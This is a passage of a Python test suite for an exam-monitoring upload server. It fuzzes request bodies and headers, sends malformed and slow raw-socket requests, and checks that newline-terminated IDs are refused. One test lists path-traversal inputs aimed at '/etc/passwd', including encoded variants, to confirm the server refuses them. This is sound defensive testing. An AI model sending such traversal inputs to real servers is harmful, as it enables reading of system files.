                            "agent_time": wire_times,
                        },
                        optional={
                            "detail": st.dictionaries(json_text, json_values, max_size=3) | json_values
                        },
                    )
                ),
                max_size=4,
            )
        }
    )
)
unchanged_records = maybe_extra(
    st.fixed_dictionaries(
        {"monitor": st.integers(-2, 20) | json_values, "agent_time": wire_times, "since_capture_id": ids},
    )
)
ENDPOINTS = {
    "/enrol": payloads.parse_enrolment,
    "/heartbeat": payloads.parse_heartbeat,
    "/device-events": payloads.parse_device_events,
}


def check_answer(response: Any, before: dict[str, Any], data_dir: Path, parse: Any, payload: Any) -> None:
    """2xx only for a payload the wire contract accepts; a 422 names the parser's problem; a 4xx stores
    nothing; never a 5xx."""
    assert response.status_code < 500, response.get_data()
    event(f"HTTP {response.status_code}")  # --hypothesis-show-statistics shows the mix
    try:
        parse(payload)
        problem = None
    except p.ProtocolError as exc:
        problem = exc.code
    if response.status_code < 300:
        assert problem is None, f"accepted a payload the contract refuses ({problem})"
        return
    answer = response.get_json()
    assert_response_refused(response, response.status_code, answer["error"]["code"])
    if response.status_code == 422 and problem is not None:
        assert answer["error"]["code"] == problem
    assert store_state(data_dir) == before


@FUZZ
@given(data=st.data())
def test_fuzzed_json_bodies_never_fail_the_server(client, exam, token, data):
    path = data.draw(st.sampled_from(sorted(ENDPOINTS)), label="endpoint")
    strategy = {"/enrol": enrolments, "/heartbeat": heartbeats, "/device-events": device_events}[path]
    payload = data.draw(strategy, label="payload")
    before = store_state(exam.data_dir)
    response = client.post(
        f"{API}{path}",
        data=json.dumps(payload),
        content_type="application/json",
        headers={**PROTOCOL, "Authorization": f"Bearer {token}"},
    )
    check_answer(response, before, exam.data_dir, ENDPOINTS[path], payload)


@FUZZ
@given(record_id=ids, payload=unchanged_records)
def test_fuzzed_unchanged_records_never_fail_the_server(client, exam, token, record_id, payload):
    before = store_state(exam.data_dir)
    path_id = quote(record_id.encode("utf-8", "surrogatepass"), safe="")
    response = client.put(
        f"{API}/unchanged/{path_id}",
        data=json.dumps(payload),
        content_type="application/json",
        headers={**PROTOCOL, "Authorization": f"Bearer {token}"},
    )

    def parse(record: Any) -> None:
        payloads.check_id(record_id)
        payloads.parse_unchanged(record)

    if response.status_code == 409:  # the same id drawn twice with another since_capture_id
        assert_response_refused(response, 409, "id_reused")
        assert store_state(exam.data_dir) == before
        return
    check_answer(response, before, exam.data_dir, parse, payload)


latin1_text = st.text(
    st.characters(min_codepoint=0x20, max_codepoint=0xFF, exclude_characters="\x7f"), max_size=200
)
metas = st.one_of(
    latin1_text,
    json_values.map(json.dumps),
    maybe_extra(
        st.fixed_dictionaries(
            {
                "monitor": st.integers(-1, 17) | json_values,
                "agent_time": wire_times,
                "sha256": st.just(sha256(PNG)) | json_text,
                "width": st.sampled_from([320, 0, 321]) | json_values,
                "height": st.sampled_from([200, 16_385]) | json_values,
            },
            optional={
                "trigger": st.sampled_from(p.CAPTURE_TRIGGERS) | json_text,
                "focused_app": json_text | json_values,
                "window_title": json_text | json_values,
            },
        )
    ).map(json.dumps),
)


@FUZZ
@given(meta=metas)
def test_fuzzed_capture_metadata_never_fails_the_server(client, exam, token, meta):
    capture_id = f"cap-{sha256(meta.encode('utf-8', 'surrogatepass'))[:16]}"
    before = store_state(exam.data_dir)
    response = client.put(
        f"{API}/captures/{capture_id}",
        data=PNG,
        headers={
            **PROTOCOL,
            "Authorization": f"Bearer {token}",
            "Content-Type": "image/png",
            p.META_HEADER: meta,
        },
    )

    def parse(header: str) -> None:
        parsed = payloads.parse_capture_meta(header)  # then the server checks the body, in this order:
        if parsed.sha256 != sha256(PNG):
            raise p.ProtocolError("sha256_mismatch", "the metadata describes other bytes")
        if (parsed.width, parsed.height) != (320, 200):
            raise p.ProtocolError("dimension_mismatch", "the metadata describes another size")

    check_answer(response, before, exam.data_dir, parse, meta)


@FUZZ
@given(
    body=st.binary(max_size=2000),
    content_type=st.sampled_from(
        ["application/json", "image/png", "text/plain", "application/octet-stream", ""]
    ),
)
def test_fuzzed_raw_bodies_never_fail_the_server(client, exam, token, body, content_type):
    before = store_state(exam.data_dir)
    headers = {**PROTOCOL, "Authorization": f"Bearer {token}", "Content-Type": content_type}
    for path in ("/heartbeat", "/device-events"):
        response = client.post(
            f"{API}{path}", data=body, headers=headers, environ_overrides=with_length(body)
        )
        assert response.status_code < 500
        if response.status_code >= 400:
            assert_response_refused(response, response.status_code, response.get_json()["error"]["code"])
            assert store_state(exam.data_dir) == before
        before = store_state(exam.data_dir)
    response = client.put(
        f"{API}/captures/cap-{sha256(body)[:16]}",
        data=body,
        headers={**headers, p.META_HEADER: meta_header(body)},
        environ_overrides=with_length(body),
    )
    assert response.status_code in (415, 422), response.get_data()  # random bytes are never an image
    assert store_state(exam.data_dir) == before


# --- Against the real server: what only a socket can send ---------------------------------------------


def raw_request(
    port: int,
    head: str,
    body: bytes = b"",
    *,
    pause_s: float = 0.0,
    chunks: int = 1,
    close_write: bool = False,
) -> tuple[int, str, bytes]:
    """Send ``head`` + ``body`` (optionally in slow chunks), then read one HTTP answer."""
    with socket.create_connection(("127.0.0.1", port), timeout=20) as sock:
        sock.sendall(head.encode("latin-1"))
        step = max(1, -(-len(body) // chunks))
        for start in range(0, len(body), step):
            if pause_s:
                time.sleep(pause_s)
            sock.sendall(body[start : start + step])
        if close_write:
            sock.shutdown(socket.SHUT_WR)
        response = http.client.HTTPResponse(sock)
        response.begin()
        return response.status, response.getheader("Content-Type", ""), response.read()


def capture_head(
    token: str, capture_id: str, content_length: int | None, body: bytes = PNG, extra: str = ""
) -> str:
    head = (
        f"PUT {API}/captures/{capture_id} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        f"{p.PROTOCOL_HEADER}: {p.PROTOCOL_VERSION}\r\nAuthorization: Bearer {token}\r\n"
        f"Content-Type: image/png\r\n{p.META_HEADER}: {meta_header(body)}\r\n{extra}"
    )
    if content_length is not None:
        head += f"Content-Length: {content_length}\r\n"
    return head + "\r\n"


def enrolled_client(
    url: str, student: str, agent_id: str, join_code: str = ENROLMENT["join_code"]
) -> HallClient:
    client = HallClient(url, timeout_s=20)
    client.enrol(Enrolment(student, join_code, agent_id, utc_now()))
    return client


@dataclass(frozen=True)
class Hall:
    exam: ExamSetup
    server: LiveServer
    token: str


@pytest.fixture(scope="module")
def hall(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hall]:
    """One real server for the raw-socket table: each case leaves the store as it found it."""
    setup = provision_exam(tmp_path_factory.mktemp("hall") / "data")
    server = LiveServer(setup.data_dir).start()
    try:
        token = enrolled_client(server.url, "s0001", "agent-0001").token
        assert token
        yield Hall(setup, server, token)
    finally:
        server.stop()


@pytest.mark.parametrize(
    ("content_length", "sent", "close_write", "status", "code"),
    [
        pytest.param(len(PNG), PNG[: len(PNG) // 2], True, 400, "truncated", id="truncated"),
        pytest.param(100, PNG, False, 422, "sha256_mismatch", id="content-length-too-small"),
        pytest.param(9_000_000, b"", False, 413, "too_large", id="content-length-over-limit"),
        pytest.param(None, b"0\r\n\r\n", False, 400, "length_required", id="chunked-without-length"),
    ],
)
def test_lying_and_truncated_bodies_over_a_real_socket(hall, content_length, sent, close_write, status, code):
    extra = "Transfer-Encoding: chunked\r\n" if content_length is None else ""
    before = store_state(hall.exam.data_dir)
    head = capture_head(hall.token, "cap-00000001", content_length, extra=extra)
    assert_refused(*raw_request(hall.server.port, head, sent, close_write=close_write), status, code)
    assert store_state(hall.exam.data_dir) == before


@pytest.mark.parametrize(
    ("path", "status", "code"),
    [
        ("/captures/..", 422, "bad_id"),
        ("/captures/../../../../etc/passwd", 404, "not_found"),
        ("/captures/./cap-00000001", 404, "not_found"),
        ("/captures/%2e%2e%2f%2e%2e%2fetc%2fpasswd", 404, "not_found"),
        ("/captures/%2E%2E", 422, "bad_id"),
        ("/captures/..%5c..%5cwindows", 422, "bad_id"),
    ],
)
def test_dot_segments_in_the_raw_path_never_reach_the_disk(hall, path, status, code):
    before = store_state(hall.exam.data_dir)
    head = capture_head(hall.token, "X", len(PNG)).replace(f"{API}/captures/X", API + path, 1)
    assert_refused(*raw_request(hall.server.port, head, PNG), status, code)
    assert store_state(hall.exam.data_dir) == before


def test_slow_client_neither_blocks_good_agents_nor_stores_half_a_capture(exam, live_server):
    good = enrolled_client(live_server.url, "s0001", "agent-0001")
    slow_token = enrolled_client(live_server.url, "s0002", "agent-0002").token
    outcome: dict[str, Any] = {}

    def trickle(capture_id: str, close_early: bool) -> None:
        head = capture_head(slow_token, capture_id, len(PNG))
        try:
            if close_early:  # half the body, a pause, then the laptop lid closes
                with socket.create_connection(("127.0.0.1", live_server.port), timeout=10) as sock:
                    sock.sendall(head.encode() + PNG[: len(PNG) // 2])
                    time.sleep(0.5)
                outcome[capture_id] = "closed"
            else:
                outcome[capture_id] = raw_request(live_server.port, head, PNG, pause_s=0.2, chunks=10)
        except Exception as exc:  # reported below
            outcome[capture_id] = exc

    slow = [
        threading.Thread(target=trickle, args=("cap-slow-0001", False)),
        threading.Thread(target=trickle, args=("cap-gone-0001", True)),
    ]
    for thread in slow:
        thread.start()
    time.sleep(0.3)  # both slow uploads are under way
    for number in range(5):
        body = png_bytes(320, 200, seed=100 + number)
        assert (
            good.put_capture(
                f"cap-good-{number:04d}", CaptureMeta(0, utc_now(), sha256(body), 320, 200), body, "image/png"
            )
            is True
        )
    assert "cap-slow-0001" not in outcome, "the good agent was served only after the slow one"  # trickles 2 s
    for thread in slow:
        thread.join(15)
    status, content_type, body = outcome["cap-slow-0001"]
    assert status == 201, body  # slow but complete is fine
    assert outcome["cap-gone-0001"] == "closed"
    good.heartbeat(Heartbeat(utc_now()))  # the server is still answering after the abandoned upload
    store = db.connect(exam.data_dir)
    stored = sorted(row[0] for row in store.execute("SELECT capture_id FROM capture").fetchall())
    store.close()
    assert stored == [
        "cap-good-0000",
        "cap-good-0001",
        "cap-good-0002",
        "cap-good-0003",
        "cap-good-0004",
        "cap-slow-0001",
    ]
    assert list((exam.data_dir / "blobs" / ".tmp").iterdir()) == []


# --- Good agents under a barrage of bad requests ---------------------------------------------------------


def send_over_http(port: int, bad: Bad, token: str) -> tuple[int, str, bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.putrequest(bad.method, bad.path, skip_accept_encoding=True)
        for name, value in {**bad.request_headers(token), "Content-Length": str(len(bad.body))}.items():
            connection.putheader(name, value)
        connection.endheaders()
        # The server answers an over-limit body from its headers and then closes rather than drain
        # megabytes: a client that insists on sending them sees a broken pipe instead of the answer.
        if len(bad.body) < 1024 * 1024:
            connection.send(bad.body)
        response = connection.getresponse()
        return response.status, response.getheader("Content-Type", ""), response.read()
    finally:
        connection.close()


def test_good_agents_are_undisturbed_by_a_barrage_of_bad_requests(exam, live_server):
    barrage = [param.values[0] for param in BAD_REQUESTS if param.values[0].remote_addr == "127.0.0.1"]
    attacker_token = enrolled_client(live_server.url, "s0005", "agent-0005").token
    assert attacker_token
    agents = [
        enrolled_client(live_server.url, student, f"agent-{index:04d}")
        for index, student in enumerate(exam.students[:4], start=1)
    ]
    sent: dict[int, list[tuple[str, bytes]]] = {index: [] for index in range(len(agents))}
    failures: list[str] = []

    def good_agent(index: int) -> None:
        client = agents[index]
        try:
            for number in range(12):
                body = png_bytes(400, 240, seed=1000 * (index + 1) + number)
                capture_id = f"cap-{index}-{number:05d}"
                assert (
                    client.put_capture(
                        capture_id, CaptureMeta(0, utc_now(), sha256(body), 400, 240), body, "image/png"
                    )
                    is True
                )
                sent[index].append((capture_id, body))
                if number % 4 == 0:
                    client.heartbeat(Heartbeat(utc_now(), backlog=number))
                    client.post_device_events(
                        [DeviceEvent(f"ev-{index}-{number:05d}", "help_cancel", utc_now())]
                    )
        except Exception as exc:
            failures.append(f"agent {index}: {exc!r}")

    def attacker(offset: int) -> None:
        for bad in barrage[offset::3]:
            try:
                assert_refused(*send_over_http(live_server.port, bad, attacker_token), bad.status, bad.code)
            except Exception as exc:
                failures.append(f"{bad.method} {bad.path[:60]} -> {exc!r}"[:300])

    threads = [threading.Thread(target=good_agent, args=(index,)) for index in range(len(agents))]
    threads += [threading.Thread(target=attacker, args=(offset,)) for offset in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert failures == []

    store = db.connect(exam.data_dir)
    key = exams.exam_key(store, crypto.load_or_create_master_key(exam.data_dir), exam.exam_id)
    blobs = BlobStore(exam.data_dir)
    rows = {row[0]: row[1] for row in store.execute("SELECT capture_id, sha256 FROM capture").fetchall()}
    assert sorted(rows) == sorted(capture_id for uploads in sent.values() for capture_id, _ in uploads)
    for uploads in sent.values():
        for capture_id, body in uploads:
            assert rows[capture_id] == sha256(body)
            assert blobs.get(exam.exam_id, key, sha256(body)) == body
    attacker_rows = store.execute(
        "SELECT (SELECT count(*) FROM capture c JOIN agent_session s ON s.id = c.session_id "
        "        JOIN roster r ON r.id = s.roster_id WHERE r.student_number = 's0005'),"
        " (SELECT count(*) FROM device_event), (SELECT count(*) FROM site_event)"
    ).fetchone()
    assert attacker_rows == (0, 4 * 3, 0)  # only the good agents' own device events
    blob_files = [path for path in (exam.data_dir / "blobs" / str(exam.exam_id)).rglob("*") if path.is_file()]
    assert len(blob_files) == len(rows)
    assert list((exam.data_dir / "blobs" / ".tmp").iterdir()) == []
    store.close()


# --- Ids that end in a newline ------------------------------------------------------------------------
# Python's "$" matches before a final newline: an id pattern checked with it would let "cap-00000001\n"
# through, into the store, the blob paths' neighbours and every export.

NEWLINE = "%0A"  # in a path; "\n" in a JSON body
TRAILING_NEWLINE_IDS = [
    pytest.param(capture(422, "bad_id", capture_id=f"cap-00000001{NEWLINE}"), id="capture-path"),
    pytest.param(
        Bad("PUT", f"{API}/captures/cap-00000001{NEWLINE}/thumbnail", 422, "bad_id", PNG, "image/png"),
        id="thumbnail-path",
    ),
    pytest.param(
        Bad(
            "PUT",
            f"{API}/unchanged/unc-00000001{NEWLINE}",
            422,
            "bad_id",
            json_bytes({"monitor": 0, "agent_time": NOW, "since_capture_id": "cap-00000001"}),
            "application/json",
        ),
        id="unchanged-path",
    ),
    pytest.param(
        Bad(
            "PUT",
            f"{API}/unchanged/unc-00000001",
            422,
            "bad_id",
            json_bytes({"monitor": 0, "agent_time": NOW, "since_capture_id": "cap-00000001\n"}),
            "application/json",
        ),
        id="unchanged-since-capture-id",
    ),
    pytest.param(
        capture(
            422,
            "bad_id",
            capture_id="cap-00000002",
            meta=meta_header(base="cap-00000001\n", tile=64, tiles="gAAA"),  # tile 0 of the 4x5 grid
        ),
        id="capture-tile-update-base",
    ),
    pytest.param(
        Bad(
            "POST",
            f"{API}/device-events",
            422,
            "bad_id",
            json_bytes({"events": [device_event(id="ev-0000001\n")]}),
            "application/json",
        ),
        id="device-event-id",
    ),
    pytest.param(enrol({**ENROLMENT, "agent_id": "agent-0003\n"}, 422, "bad_id"), id="enrol-agent-id"),
]


@pytest.mark.parametrize("bad", TRAILING_NEWLINE_IDS)
def test_an_id_ending_in_a_newline_is_refused_and_stores_nothing(client, exam, token, bad):
    before = store_state(exam.data_dir)
    assert_response_refused(send(client, bad, token), bad.status, bad.code)
    assert store_state(exam.data_dir) == before


def test_a_site_event_id_ending_in_a_newline_is_refused_and_stores_nothing(client, exam):
    before = store_state(exam.data_dir)
    service_token = (exam.data_dir / "service.token").read_text().strip()
    response = client.post(
        f"{API}/site-events",
        json={"events": [site_event(id="site-000001\n")]},
        headers={**PROTOCOL, "Authorization": f"Bearer {service_token}"},
        environ_base={"REMOTE_ADDR": "10.1.2.3"},
    )
    assert_response_refused(response, 422, "bad_id")
    assert store_state(exam.data_dir) == before


def test_a_thumbnail_for_a_stored_capture_under_its_id_with_a_newline_is_refused(client, exam, token):
    assert upload(client, token, "cap-00000001").status_code == 201
    before = store_state(exam.data_dir)
    bad = Bad("PUT", f"{API}/captures/cap-00000001{NEWLINE}/thumbnail", 422, "bad_id", PNG, "image/png")
    assert_response_refused(send(client, bad, token), 422, "bad_id")
    assert store_state(exam.data_dir) == before
